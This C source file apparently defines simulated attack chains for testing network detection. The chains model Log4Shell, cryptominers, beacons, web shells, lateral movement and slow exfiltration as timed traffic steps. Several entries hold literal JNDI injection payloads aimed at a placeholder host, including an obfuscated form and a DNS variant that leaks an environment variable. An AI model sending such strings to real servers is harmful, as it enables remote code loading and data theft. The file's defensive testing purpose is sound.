// SPDX-License-Identifier: GPL-2.0-or-later
// The attacks. See chain.h.
#include "chain.h"

#define EXPOSED (PART_BIT(PART_WEB) | PART_BIT(PART_GATEWAY))
#define DESKS (PART_BIT(PART_OFFICE) | PART_BIT(PART_DEVELOPER))
#define CURL "curl/7.47.0"
#define WGET "Wget/1.17.1 (linux-gnu)"
#define JAVA "Java/1.8.0_191"
#define ODD "Mozilla/4.0 (compatible; upd 1.1)"
#define AFTER(n) (1u << (n))
#define MINUTE 60000u
#define HOUR (60 * MINUTE)
#define DAY (24 * HOUR)

// A case of a step that differs from others only in what it is about.
#define CLASS_STEP(needs_) {"a Java class is fetched", move_fetch, 20, needs_, SLOT_A, 0, 8000, HTTP_JAVA, BODY_CLASS, "/Exploit.class", JAVA, 1362}
#define SHELL_STEP(needs_) {"reverse shell", move_shell, 60, needs_, SLOT_A, 0, 4444}

// Beacons of a program a person was made to run: the same chain, more or less regular.
#define BEACON(name_, jitter_)                                                                                                                      \
	{                                                                                                                                             \
		name_, DESKS,                                                                                                                         \
		{                                                                                                                                     \
			{"a program is downloaded from a new host", move_fetch_named, 0, 0, SLOT_B, 0, 80, HTTP_BROWSER, BODY_EXE, "/invoice.exe",     \
			 "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.45 Safari/537.36", 9000},  \
				{"a beacon every 10 minutes for 12 hours", move_tls_named, 2 * MINUTE, AFTER(0), SLOT_A, jitter_, 443, TLS_GO, BODY_NONE, NULL,  \
				 NULL, 300, 72, 10 * MINUTE},                                                                                         \
		}                                                                                                                                     \
	}

// A patient attacker who looks like everybody: names, 443 and 80, fingerprints and agents this server uses anyway. `entry`:
// whether the server is made to call the very host that came in, or another one.
#define MIMIC_STEPS(first, delay, entry)                                                                                                                           \
	{"HTTPS from an address never seen", move_tls_in, delay, 0, entry, 0, 443, TLS_CHROME},                                                             \
		{"call back over HTTPS with a name", move_tls_named, 20000, AFTER(first), SLOT_A, 0, 443, TLS_OPENSSL},                                       \
		{"a tool by HTTP with a known agent", move_fetch_named, 5 * MINUTE, AFTER((first) + 1), SLOT_B, 0, 80, HTTP_CURL, BODY_ZIP,                   \
		 "/release.zip", "curl/7.74.0", 9000},                                                                                                         \
		{"control over HTTPS, another host", move_tls_named, 40 * MINUTE, AFTER((first) + 2), SLOT_C, 20, 443, TLS_OPENSSL, BODY_NONE, NULL, NULL,     \
		 400, 6, 10 * MINUTE},                                                                                                                         \
		{"data leaves over HTTPS", move_tls_named, 30 * MINUTE, AFTER((first) + 3), SLOT_D, 0, 443, TLS_OPENSSL, BODY_NONE, NULL, NULL, 200000}

#define DRIP(name_, days_)                                                                                                                          \
	{                                                                                                                                             \
		name_, EXPOSED,                                                                                                                       \
		{                                                                                                                                     \
			{"small HTTPS sessions to what will be the control host", move_tls_named, 0, 0, SLOT_A, 101, 443, TLS_OPENSSL, BODY_NONE, NULL, \
			 NULL, 300, days_, DAY},                                                                                                       \
				MIMIC_STEPS(1, (days_)*DAY, SLOT_D),                                                                                           \
		}                                                                                                                                     \
	}

const struct chain CHAINS[] = {
	{"case1", EXPOSED,
	 {
		 {"HTTPS from an address never seen", move_tls_in, 0, 0, SLOT_A, 0, 443, TLS_GO},
		 {"call back to it, Java agent, port 12344", move_fetch, 6000, AFTER(0), SLOT_A, 0, 12344, HTTP_JAVA, BODY_TEXT, "/Basic/Command/Base64/ZWNobyBpbmVydA==", JAVA, 60},
		 {"curl, port 5874, own address in the URI", move_fetch, 400, AFTER(1), SLOT_A, 0, 5874, HTTP_CURL, BODY_TEXT, "/{v}:443", CURL, 20},
		 {"curl, what was found on the server in the URI", move_fetch, 600, AFTER(2), SLOT_A, 0, 5874, HTTP_CURL, BODY_TEXT, "/{v}:443/?host=web&user=www-data&kernel=5.10.0-9-amd64&cpus=4", CURL, 20},
		 {"a script from another rare address", move_fetch, 72 * MINUTE, AFTER(3), SLOT_B, 0, 8081, HTTP_CURL, BODY_SHELL, "//lh.sh", CURL, 1900},
		 {"a Java class", move_fetch, 6000, AFTER(4), SLOT_B, 0, 8081, HTTP_JAVA, BODY_CLASS, "/ExplorerUpd8f2a.class", JAVA, 2216},
		 {"a program", move_fetch, 53000, AFTER(4), SLOT_B, 0, 8081, HTTP_WGET, BODY_ELF, "/kinsing", WGET, 24000},
		 {"a library", move_fetch, 39000, AFTER(6), SLOT_B, 0, 8081, HTTP_CURL, BODY_LIBRARY, "//libsystem.so", CURL, 12000},
		 {"the class again from a third address", move_fetch, 11 * MINUTE, AFTER(4), SLOT_C, 0, 8081, HTTP_JAVA, BODY_CLASS, "/ExplorerUpd8f2a.class", JAVA, 2216},
		 {"mining begins", move_stratum, 2 * MINUTE, AFTER(6), SLOT_D, 0, 3333},
	 }},
	{"case2", EXPOSED,
	 {
		 {"HTTP calls to a rare address, port 88", move_post, 0, 0, SLOT_A, 4, 88, HTTP_PLAIN, BODY_TEXT, "/gate", ODD, 16, 45, MINUTE},
		 {"a script from there", move_fetch, 14 * MINUTE, AFTER(0), SLOT_A, 0, 88, HTTP_PLAIN, BODY_SHELL, "/a/s.sh", ODD, 1400},
		 {"a program from there", move_fetch, 4600, AFTER(1), SLOT_A, 0, 88, HTTP_PLAIN, BODY_ELF, "/a/agent64", ODD, 24000},
	 }},
	{"log4shell-clear", EXPOSED,
	 {
		 {"a look-up string in a header", move_jndi, 0, 0, SLOT_A, 0, 80, 0, 0, "${jndi:ldap://%s:1389/Basic/x}"},
		 {"LDAP answer that names a class", move_ldap, 150, AFTER(0), SLOT_A, 0, 1389},
		 CLASS_STEP(AFTER(1)),
		 SHELL_STEP(AFTER(2)),
	 }},
	{"https-only", EXPOSED,
	 {
		 {"HTTPS from an address never seen", move_tls_in, 0, 0, SLOT_A, 0, 443, TLS_GO},
		 {"HTTPS back to it without a name", move_tls_out, 4000, AFTER(0), SLOT_A, 0, 443, TLS_JAVA},
		 {"HTTPS download from another address, port 8443", move_tls_out, 3 * MINUTE, AFTER(1), SLOT_B, 0, 8443, TLS_OPENSSL, BODY_ELF, NULL, NULL, 300},
		 {"HTTPS control for an hour", move_tls_out, 5 * MINUTE, AFTER(2), SLOT_A, 20, 443, TLS_GO, BODY_NONE, NULL, NULL, 300, 30, 2 * MINUTE},
	 }},
	{"dns-only", EXPOSED,
	 {
		 {"a look-up string in a header", move_jndi, 0, 0, SLOT_D, 0, 80, 0, 0, "${jndi:dns://%s/${env:USER}}"},
		 {"a question under the attacker's domain with what was gathered", move_dns, 14, AFTER(0), SLOT_B, 0, 53, 0, 0, "www-data.web.r7f3"},
		 {"data leaves in names", move_dns, MINUTE, AFTER(1), SLOT_B, 30, 53, 0, 0, NULL, NULL, 0, 80, 15000},
	 }},
	{"rmi", EXPOSED,
	 {
		 {"a look-up string in a header", move_jndi, 0, 0, SLOT_A, 0, 80, 0, 0, "${jndi:rmi://%s:1099/Exploit}"},
		 {"RMI answer that names a code base", move_rmi, 150, AFTER(0), SLOT_A, 0, 1099},
		 CLASS_STEP(AFTER(1)),
		 SHELL_STEP(AFTER(2)),
	 }},
	{"obfuscated", EXPOSED,
	 {
		 {"a nested look-up string in a form", move_form, 0, 0, SLOT_A, 0, 80, 0, 0, "user=x&name=$%%7B$%%7B::-j%%7D$%%7Blower:n%%7Ddi:$%%7B::-l%%7Ddap://%s:8443/a%%7D"},
		 {"LDAP answer on port 8443", move_ldap, 200, AFTER(0), SLOT_A, 0, 8443},
		 CLASS_STEP(AFTER(1)),
		 {"reverse shell on port 443", move_shell, 60, AFTER(2), SLOT_A, 0, 443},
	 }},
	{"ssrf", EXPOSED,
	 {
		 {"a request that names where to fetch from", move_form, 0, 0, SLOT_A, 0, 80, 0, 0, "url=http://%s:8080/feed.xml&kind=rss"},
		 {"the server fetches it", move_fetch, 80, AFTER(0), SLOT_A, 0, 8080, HTTP_JAVA, BODY_HTML, "/feed.xml", JAVA, 700},
		 {"a script from the same address", move_fetch, 90000, AFTER(1), SLOT_A, 0, 8080, HTTP_CURL, BODY_SHELL, "/x.sh", CURL, 1200},
		 {"HTTPS control", move_tls_out, 2 * MINUTE, AFTER(2), SLOT_B, 20, 443, TLS_GO, BODY_NONE, NULL, NULL, 300, 12, 5 * MINUTE},
	 }},
	{"web-shell", EXPOSED,
	 {
		 {"a file is uploaded", move_upload, 0, 0, SLOT_A, 0, 80, 0, 0, "/upload.do", "Mozilla/5.0 (Windows NT 10.0; rv:91.0) Gecko/20100101 Firefox/91.0"},
		 {"commands through it", move_webshell, 30000, AFTER(0), SLOT_A, 60, 80, 0, 0, "/files/%s", "Mozilla/5.0 (Windows NT 10.0; rv:91.0) Gecko/20100101 Firefox/91.0", 0, 8, 20000},
		 {"a tool is downloaded", move_fetch, 2 * MINUTE, AFTER(1), SLOT_B, 0, 80, HTTP_WGET, BODY_ELF, "/t/chisel", WGET, 24000},
		 {"a tunnel to the outside", move_tls_out, MINUTE, AFTER(2), SLOT_C, 10, 8080, TLS_GO, BODY_NONE, NULL, NULL, 2000, 20, 2 * MINUTE},
	 }},
	{"miner", EXPOSED | PART_BIT(PART_APPLICATION) | PART_BIT(PART_BUILD),
	 {
		 {"a script", move_fetch, 0, 0, SLOT_A, 0, 80, HTTP_CURL, BODY_SHELL, "/init.sh", "curl/7.68.0", 2600},
		 {"a program", move_fetch, 4000, AFTER(0), SLOT_A, 0, 80, HTTP_CURL, BODY_ELF, "/xm64", "curl/7.68.0", 24000},
		 {"mining", move_stratum, 20000, AFTER(1), SLOT_B, 0, 3333, 0, 0, NULL, NULL, 0, 3, 20 * MINUTE},
	 }},
	BEACON("beacon-0", 0),
	BEACON("beacon-10", 10),
	BEACON("beacon-30", 30),
	BEACON("beacon-50", 50),
	{"exfil-1h", PART_BIT(PART_OFFICE) | PART_BIT(PART_APPLICATION),
	 {
		 {"20 MB leave within an hour over HTTPS", move_tls_named, 0, 0, SLOT_A, 20, 443, TLS_GO, BODY_NONE, NULL, NULL, 500000, 40, 85000},
	 }},
	{"exfil-7d", PART_BIT(PART_OFFICE) | PART_BIT(PART_APPLICATION),
	 {
		 {"25 MB leave within 7 days over HTTPS", move_tls_named, 0, 0, SLOT_A, 40, 443, TLS_GO, BODY_NONE, NULL, NULL, 150000, 168, HOUR},
	 }},
	{"scan-lateral", DESKS,
	 {
		 {"a program is downloaded from a new host", move_fetch_named, 0, 0, SLOT_B, 0, 80, HTTP_BROWSER, BODY_EXE, "/invoice.exe",
		  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.45 Safari/537.36", 9000},
		 {"control", move_tls_named, 90000, AFTER(0), SLOT_A, 20, 443, TLS_GO, BODY_NONE, NULL, NULL, 300, 30, 2 * MINUTE},
		 {"inside hosts and ports are tried", move_probe, 5 * MINUTE, AFTER(1), SLOT_A, 50, 0, 0, 0, NULL, NULL, 0, 120, 800},
		 {"file sharing to servers it never used", move_lateral, 4 * MINUTE, AFTER(2), SLOT_A, 30, 445, 0, 0, NULL, NULL, 0, 4, 40000},
		 {"shells on servers", move_lateral, 2 * MINUTE, AFTER(2), SLOT_A, 30, 22, 0, 0, NULL, NULL, 0, 3, 60000},
	 }},
	{"mimic", EXPOSED, {MIMIC_STEPS(0, 0, SLOT_A)}},
	{"mimic-apart", EXPOSED, {MIMIC_STEPS(0, 0, SLOT_D)}},
	DRIP("drip-14", 14),
	DRIP("drip-30", 30),
};
const unsigned CHAINS_COUNT = sizeof(CHAINS) / sizeof(*CHAINS);

const char *chain_name(unsigned chain)
{
	return chain < CHAINS_COUNT ? CHAINS[chain].name : NULL;
}

const char *chain_step_words(unsigned chain, unsigned step)
{
	return chain < CHAINS_COUNT && step < STREAM_STEPS ? CHAINS[chain].step[step].words : NULL;
}

uint64_t chain_length_ns(unsigned chain)
{
	uint64_t begins_ms = 0, last_ms = 0;

	for (const struct chain_step *s = CHAINS[chain].step; s < CHAINS[chain].step + STREAM_STEPS && s->words; s++) {
		uint64_t ends_ms;

		begins_ms += s->after_ms;
		ends_ms = begins_ms + (s->times ? (uint64_t)(s->times - 1) * s->every_ms : 0);
		if (ends_ms > last_ms)
			last_ms = ends_ms;
	}
	return last_ms * MS;
}
